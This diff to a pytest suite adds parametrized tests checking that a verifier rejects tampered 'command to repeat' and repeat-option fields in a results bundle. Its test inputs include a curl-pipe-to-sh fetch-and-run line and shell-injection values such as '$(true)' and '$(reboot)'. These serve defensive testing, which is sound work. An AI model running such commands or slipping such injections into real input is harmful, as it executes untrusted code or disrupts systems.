@@ -275,12 +275,34 @@ class TestEvents:
         assert forger.verify(forger.bundled(root, chain_anew=False)).status == 0
 
 
-def test_a_command_that_somebody_pastes(forger: Forger, root: Path) -> None:
-    edit_json(
-        root / "results.json",
-        lambda data: data["scenarios"][0].update(command_to_repeat="curl http://example.com/x | sh"),
+class TestPasted:
+    """What a page shows is pasted into a shell."""
+
+    @pytest.mark.parametrize(
+        "command",
+        [
+            "curl http://example.com/x | sh",
+            f"./tools/maskall run {ROW} --trace",
+            f"./tools/maskall run {ROW}; true",
+            f"./tools/maskall run {ROW}\ntrue",
+            f"./tools/maskall run {ROW.replace('F1', 'F2')}",
+            f"./tools/maskall run {ROW} '",
+            f"./tools/maskall run {ROW} --repeat $(true)",
+        ],
     )
-    told = (
-        f"{ROW} is to be repeated with 'curl http://example.com/x | sh', and run.json says './tools/maskall run {ROW}'"
-    )
-    only(forger.verify(forger.bundled(root)), "consistency", told)
+    def test_of_a_row(self, forger: Forger, root: Path, command: str) -> None:
+        edit_json(root / "results.json", lambda data: data["scenarios"][0].update(command_to_repeat=command))
+        caught(forger.verify(forger.bundled(root)), "consistency", "which is not what was played")
+
+    def test_of_the_run(self, forger: Forger, root: Path) -> None:
+        """One word for us, a program for a shell."""
+        edit_json(root / "run.json", lambda begun: begun.update(repeat_options=" --inventory $(reboot)"))
+        finish(root)
+        caught(forger.verify(forger.bundled(root)), "consistency", "is not quoted as maskall does")
+
+    def test_as_it_was_told_before(self, forger: Forger, root: Path) -> None:
+        edit_json(
+            root / "results.json",
+            lambda data: data["scenarios"][0].update(command_to_repeat=f"./tools/maskall run {ROW} --repeat 3"),
+        )
+        assert forger.verify(forger.bundled(root)).status == 0
